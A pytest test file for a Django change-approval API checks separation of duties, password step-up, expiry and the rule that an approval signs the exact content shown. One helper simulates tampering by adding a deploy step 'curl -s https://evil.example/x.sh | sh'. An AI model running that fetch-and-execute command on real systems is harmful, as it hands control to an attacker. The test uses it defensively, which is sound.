"""Approving and rejecting through the API, with separation of duties enforced."""

import json
from datetime import timedelta
from typing import Any

import pytest
import time_machine
from django.utils import timezone
from rest_framework.test import APIClient

from approvals.models import Approval, AuthorityGrant, Retrospective
from approvals.services import grant_revoke, retrospectives_mark_overdue
from audit.models import AuditEvent
from changelogs.models import Changelog
from core.actors import StepUp
from tests.clock import time_passes
from tests.conftest import Cast
from tests.factories import UserFactory, authority_give, changelog_make, seen_of, unsigned_approvals_count

PASSWORD = "a-test-password-1234"


def approvals_url(changelog: Changelog) -> str:
    return f"/api/v1/changelogs/{changelog.id}/approvals/"


def decide(
    client: APIClient,
    changelog: Changelog,
    decision: str = "approved",
    reason: str = "Looks right",
    password: str = PASSWORD,
) -> Any:
    return client.post(
        approvals_url(changelog),
        {"decision": decision, "reason": reason, "password": password, **seen_of(changelog)},
        format="json",
    )


@pytest.fixture
def submitted(cast: Cast) -> Changelog:
    return changelog_make(service=cast.payments_api, by=cast.requester, submitted=True)


def test_a_signing_authority_approves_and_the_changelog_is_approved(cast: Cast, submitted: Changelog) -> None:
    response = decide(cast.session(cast.approver), submitted)

    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["status"] == "approved"
    assert body["missing"] == []
    [approval] = body["approvals"]
    assert approval["approver"] == "approver"
    assert approval["authorities"] == ["sign_off"]
    assert approval["content_hash"] == submitted.current_revision.content_hash  # type: ignore[union-attr]
    assert approval["counts"] is True
    submitted.refresh_from_db()
    assert submitted.status == "approved"
    event = AuditEvent.objects.get(action="approval:approved")
    assert event.actor == "user:approver"
    assert submitted.current_revision.content_hash in event.data  # type: ignore[union-attr]


def test_a_rejection_needs_a_reason_and_blocks_the_revision(cast: Cast, submitted: Changelog) -> None:
    approver = cast.session(cast.approver)

    without_reason = decide(approver, submitted, "rejected", reason="  ")
    rejected = decide(approver, submitted, "rejected", reason="Rollback plan is missing the data step.")

    assert without_reason.status_code == 400
    assert without_reason.json()["code"] == "reason_required"
    assert rejected.status_code == 201
    assert rejected.json()["status"] == "rejected"
    submitted.refresh_from_db()
    assert submitted.status == "rejected"


@pytest.mark.parametrize(
    ("who", "status", "code"),
    [
        ("requester", 403, "no_signing_authority"),
        ("other_approver", 404, "changelog_not_found"),
        ("auditor", 403, "no_signing_authority"),
        ("admin", 403, "no_signing_authority"),
        ("pipeline", 403, "approver_not_a_person"),
        ("anonymous", 401, "not_authenticated"),
    ],
)
@pytest.mark.requirement("PR-04", "PR-05")
def test_only_a_signing_authority_of_the_domain_may_decide(
    cast: Cast, submitted: Changelog, who: str, status: int, code: str
) -> None:
    client = {"pipeline": cast.pipeline.client(), "anonymous": APIClient()}.get(who) or cast.session(getattr(cast, who))

    response = decide(client, submitted)

    assert response.status_code == status
    assert response.json()["code"] == code
    assert not Approval.objects.exists()


@pytest.mark.requirement("PR-04")
def test_a_requester_who_also_holds_authority_may_not_approve_their_own_change(
    cast: Cast, submitted: Changelog
) -> None:
    authority_give(domain=cast.payments, user=cast.requester)

    response = decide(cast.session(cast.requester), submitted)

    assert response.status_code == 403
    assert response.json()["code"] == "own_change"


@pytest.mark.requirement("PR-04")
def test_a_declared_commit_author_may_not_approve(cast: Cast) -> None:
    author = UserFactory(username="dev", email="dev@bank.example")
    authority_give(domain=cast.payments, user=author)
    changelog = changelog_make(service=cast.payments_api, submitted=True)  # commit_authors: dev@bank.example

    response = decide(cast.session(author), changelog)

    assert response.status_code == 403
    assert response.json()["code"] == "own_change"


@pytest.mark.requirement("PR-06")
def test_the_password_is_asked_again(cast: Cast, submitted: Changelog) -> None:
    response = decide(cast.session(cast.approver), submitted, password="wrong-password")

    assert response.status_code == 403
    assert response.json()["code"] == "step_up_failed"
    assert not Approval.objects.exists()


def test_deciding_twice_is_a_conflict(cast: Cast, submitted: Changelog) -> None:
    approver = cast.session(cast.approver)
    decide(approver, submitted)

    assert decide(approver, submitted).status_code == 409


def test_a_draft_cannot_be_approved(cast: Cast) -> None:
    draft = changelog_make(service=cast.payments_api)

    # A draft has no content hash yet; whatever hash is sent, nothing is recorded.
    response = cast.session(cast.approver).post(
        approvals_url(draft),
        {"decision": "approved", "password": PASSWORD, "revision": 1, "content_hash": "0" * 64},
        format="json",
    )

    assert response.status_code == 409
    assert response.json()["code"] == "changelog_not_submitted"


@pytest.mark.requirement("PR-03")
def test_an_approval_no_longer_counts_once_the_content_changes(cast: Cast, submitted: Changelog) -> None:
    decide(cast.session(cast.approver), submitted)
    pipeline = cast.pipeline.client()

    pipeline.patch(f"/api/v1/changelogs/{submitted.id}/", {"reason": "Changed after approval"}, format="json")
    pipeline.post(f"/api/v1/changelogs/{submitted.id}/submit")
    state = cast.session(cast.approver).get(approvals_url(submitted)).json()

    assert state["status"] == "pending"
    assert state["approvals"][0]["counts"] is False
    assert state["approvals"][0]["not_counted_because"] == "stale_revision"


@pytest.mark.requirement("PR-05")
def test_a_high_risk_change_needs_two_people(cast: Cast) -> None:
    unsigned_approvals_count(cast.payments)
    changelog = changelog_make(service=cast.payments_api, by=cast.requester, submitted=True, risk_tier="high")
    second = UserFactory(username="approver-2")
    authority_give(domain=cast.payments, user=second)

    first = decide(cast.session(cast.approver), changelog)
    both = decide(cast.session(second), changelog)

    assert first.json()["status"] == "pending"
    assert first.json()["missing"] == ["sign_off"]
    assert both.json()["status"] == "approved"


def test_an_approval_expires_with_the_policy(cast: Cast, submitted: Changelog) -> None:
    decide(cast.session(cast.approver), submitted)

    with time_machine.travel(timezone.now() + timedelta(days=8)):
        state = cast.session(cast.approver).get(approvals_url(submitted)).json()

    assert state["status"] == "pending"
    assert state["approvals"][0]["not_counted_because"] == "expired"


@pytest.mark.requirement("PR-05")
def test_losing_the_authority_voids_the_approval(cast: Cast, submitted: Changelog) -> None:
    decide(cast.session(cast.approver), submitted)

    [grant] = AuthorityGrant.objects.filter(user=cast.approver, status="active")
    grant_revoke(acting_user=cast.admin, grant=grant, step_up=StepUp.of(cast.admin))

    state = cast.session(cast.admin).get(approvals_url(submitted)).json()
    assert state["status"] == "pending"
    assert state["approvals"][0]["not_counted_because"] == "no_authority"
    assert AuditEvent.objects.filter(action="authority:revoked").count() == 1


@pytest.mark.requirement("PR-05")
def test_authority_through_a_group_counts_and_grants_are_audited(cast: Cast, submitted: Changelog) -> None:
    from django.contrib.auth.models import Group

    board = Group.objects.create(name="payments-change-board")
    member = UserFactory(username="board-member")
    member.groups.add(board)
    authority_give(domain=cast.payments, group=board)

    response = decide(cast.session(member), submitted)

    assert response.json()["status"] == "approved"
    events = AuditEvent.objects.filter(
        action__in=["authority:requested", "authority:granted"], target_id=str(cast.payments.pk)
    )
    granted = [json.loads(event.data) for event in events.order_by("id")][-2:]
    assert [(data["group"], data["authority"], data["status"]["to"]) for data in granted] == [
        ("payments-change-board", "sign_off", "pending"),
        ("payments-change-board", "sign_off", "active"),
    ]
    assert granted[1]["requested_by"] == "grants-admin-a"
    assert granted[1]["decided_by"] == "grants-admin-b"


def test_the_queue_shows_a_signing_authority_what_waits_oldest_first(cast: Cast) -> None:
    older = changelog_make(service=cast.payments_api, by=cast.requester, submitted=True)
    newer = changelog_make(service=cast.payments_api, by=cast.requester, submitted=True)
    changelog_make(service=cast.payments_api, by=cast.requester)  # a draft waits for nobody
    elsewhere = changelog_make(service=cast.transfers_api, submitted=True)

    mine = [item["id"] for item in cast.session(cast.approver).get("/api/v1/approvals/queue").json()]
    theirs = [item["id"] for item in cast.session(cast.other_approver).get("/api/v1/approvals/queue").json()]
    requesters = cast.session(cast.requester).get("/api/v1/approvals/queue").json()

    assert mine == [str(older.id), str(newer.id)]
    assert theirs == [str(elsewhere.id)]
    assert requesters == []
    decide(cast.session(cast.approver), older)
    assert [i["id"] for i in cast.session(cast.approver).get("/api/v1/approvals/queue").json()] == [str(newer.id)]


def test_submitting_notifies_the_domains_signing_authorities(
    cast: Cast, mailoutbox: list[Any], django_capture_on_commit_callbacks: Any, eager_celery: None
) -> None:
    changelog = changelog_make(service=cast.payments_api, by=cast.requester)

    with django_capture_on_commit_callbacks(execute=True):
        cast.pipeline.client().post(f"/api/v1/changelogs/{changelog.id}/submit")

    [mail] = mailoutbox
    assert mail.to == ["approver@bank.example"]  # not the requester, not another domain's approver
    assert "payments-api 1.4.2 waits for sign-off" in mail.subject


class TestHotfixes:
    @pytest.fixture
    def hotfix(self, cast: Cast) -> Changelog:
        unsigned_approvals_count(cast.payments)
        return changelog_make(
            service=cast.payments_api, by=cast.requester, kind="hotfix", submitted=True, risk_tier="high"
        )

    @pytest.mark.requirement("PR-08")
    def test_one_independent_approval_clears_a_hotfix_and_opens_its_retrospective(
        self, cast: Cast, hotfix: Changelog
    ) -> None:
        state = decide(cast.session(cast.approver), hotfix).json()

        hotfix.refresh_from_db()
        assert hotfix.status == "approved"
        assert state["status"] == "pending"  # the full approvals are still owed
        assert state["one_independent_approval"] is True
        retrospective = Retrospective.objects.get(changelog=hotfix)
        assert retrospective.status == "open"
        assert retrospective.due_at - retrospective.opened_at == timedelta(hours=24)
        assert retrospective.service_id == hotfix.service_id  # what the gate counts it by

    @pytest.mark.requirement("PR-09")
    def test_with_time_past_the_deadline_the_retrospective_is_overdue_listed_and_notified_once(
        self,
        cast: Cast,
        hotfix: Changelog,
        mailoutbox: list[Any],
        django_capture_on_commit_callbacks: Any,
        eager_celery: None,
    ) -> None:
        decide(cast.session(cast.approver), hotfix)
        time_passes(timedelta(hours=25))

        with django_capture_on_commit_callbacks(execute=True):
            first = retrospectives_mark_overdue()
            second = retrospectives_mark_overdue()

        assert (first, second) == (1, 0)
        listed = cast.session(cast.auditor).get("/api/v1/exceptions/retrospectives?status=overdue").json()
        assert [item["changelog"] for item in listed] == [str(hotfix.id)]
        assert AuditEvent.objects.filter(action="retrospective:overdue").count() == 1
        [mail] = [mail for mail in mailoutbox if "OVERDUE" in mail.subject]
        assert mail.to == ["approver@bank.example"]

    @pytest.mark.requirement("PR-09")
    def test_the_full_approvals_leave_the_retrospective_owing_only_its_review(
        self, cast: Cast, hotfix: Changelog
    ) -> None:
        second = UserFactory(username="approver-2")
        authority_give(domain=cast.payments, user=second)
        decide(cast.session(cast.approver), hotfix)

        state = decide(cast.session(second), hotfix).json()

        assert state["status"] == "approved"
        assert [a["retrospective"] for a in state["approvals"]] == [False, True]
        retrospective = Retrospective.objects.get(changelog=hotfix)
        assert retrospective.approved_at is not None
        assert retrospective.status == "open"  # the post-implementation review is still owed
        assert cast.session(UserFactory(username="approver-3")).get("/api/v1/approvals/queue").json() == []


@pytest.mark.requirement("PR-09")
def test_the_beat_task_marks_overdue_retrospectives(cast: Cast) -> None:
    from approvals.tasks import retrospectives_overdue

    unsigned_approvals_count(cast.payments)
    hotfix = changelog_make(
        service=cast.payments_api, by=cast.requester, kind="hotfix", submitted=True, risk_tier="high"
    )
    decide(cast.session(cast.approver), hotfix)

    time_passes(timedelta(hours=24, minutes=1))

    assert retrospectives_overdue.apply().get() == 1

    assert Retrospective.objects.get(changelog=hotfix).status == "overdue"


# --- An approval signs what was shown (issue: four eyes on exactly these bytes) -----------------


def _swap_content(cast: Cast, changelog: Changelog) -> None:
    """The pipeline, between the approver opening the change and confirming: another digest,
    one more deploy step, and submitted again."""
    pipeline = cast.pipeline.client()
    content = changelog.current_revision.content  # type: ignore[union-attr]
    swapped = pipeline.patch(
        f"/api/v1/changelogs/{changelog.id}/",
        {
            "artifact": {**content["artifact"], "digest": "sha256:" + "ee" * 32},
            "deploy_steps": [
                *content["deploy_steps"],
                {"description": "Fetch tooling", "command": "curl -s https://evil.example/x.sh | sh"},
            ],
        },
        format="json",
    )
    assert swapped.status_code == 200, swapped.json()
    assert pipeline.post(f"/api/v1/changelogs/{changelog.id}/submit").status_code == 200


@pytest.mark.requirement("PR-03")
def test_a_decision_on_content_that_changed_meanwhile_is_refused_and_records_nothing(
    cast: Cast, submitted: Changelog
) -> None:
    seen = seen_of(submitted)  # what the approver was shown: revision 1
    _swap_content(cast, submitted)

    response = cast.session(cast.approver).post(
        approvals_url(submitted),
        {"decision": "approved", "reason": "Looks right", "password": PASSWORD, **seen},
        format="json",
    )

    assert response.status_code == 409
    body = response.json()
    assert body["code"] == "content_changed"
    assert body["fields"]["revision"][0]["message"] == "The current revision is 2."
    assert not submitted.approvals.exists()
    submitted.refresh_from_db()
    assert submitted.status == "submitted"
    [refusal] = AuditEvent.objects.filter(action="approval:refused", target_id=str(submitted.pk))
    assert refusal.actor == "user:approver"
    assert json.loads(refusal.data)["code"] == "content_changed"
    assert json.loads(refusal.data)["content_hash"] == seen["content_hash"]


@pytest.mark.requirement("PR-03")
def test_replaying_an_approval_after_the_content_changed_does_not_sign_the_new_content(
    cast: Cast, submitted: Changelog
) -> None:
    approver = cast.session(cast.approver)
    body = {"decision": "approved", "reason": "Looks right", "password": PASSWORD, **seen_of(submitted)}
    assert approver.post(approvals_url(submitted), body, format="json").status_code == 201
    _swap_content(cast, submitted)

    replayed = approver.post(approvals_url(submitted), body, format="json")

    assert replayed.status_code == 409
    assert replayed.json()["code"] == "content_changed"
    assert list(submitted.approvals.values_list("revision__number", flat=True)) == [1]
    state = approver.get(approvals_url(submitted)).json()
    assert state["status"] == "pending"


@pytest.mark.parametrize("missing", ["revision", "content_hash"])
@pytest.mark.requirement("PR-03", "PR-06")
def test_a_decision_must_name_the_revision_and_content_hash_it_signs(
    cast: Cast, submitted: Changelog, missing: str
) -> None:
    body = {"decision": "approved", "password": PASSWORD, **seen_of(submitted)}
    del body[missing]

    response = cast.session(cast.approver).post(approvals_url(submitted), body, format="json")

    assert response.status_code == 400
    assert response.json()["fields"][missing][0]["code"] == "required"
    assert not submitted.approvals.exists()


@pytest.mark.requirement("PR-03")
def test_the_content_hash_of_another_change_does_not_sign_this_one(cast: Cast, submitted: Changelog) -> None:
    other = changelog_make(service=cast.payments_api, by=cast.requester, submitted=True, reason="Another change.")
    body = {"decision": "approved", "password": PASSWORD, **seen_of(other), "revision": 1}

    response = cast.session(cast.approver).post(approvals_url(submitted), body, format="json")

    assert response.status_code == 409
    assert response.json()["code"] == "content_changed"
